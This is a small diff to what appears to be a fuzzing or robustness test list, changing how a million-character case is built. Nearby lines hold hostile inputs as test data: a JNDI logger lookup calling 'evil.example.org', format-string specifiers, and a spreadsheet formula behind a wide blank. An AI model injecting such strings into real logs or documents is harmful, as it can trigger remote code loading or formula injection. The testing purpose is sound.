@@ -57,7 +57,7 @@ CASES = (
     _worded("look-ups of a logger", "${jndi:ldap://evil.example.org/x} %s%n {0}"),
     _worded("a formula behind a wide blank", "\u3000=1+1", title="=1+1"),
     # Much.
-    _worded("a million letters", "a" * 10**6),
+    one("a million letters", titled(title="a" * 10**6), title="a" * 10**6),
     _worded("50,000 words", " ".join(["word"] * 50_000)),
     _worded("100,000 letters without a break", "x" * 100_000),
     _worded("100,000 angle brackets", "<" * 100_000),
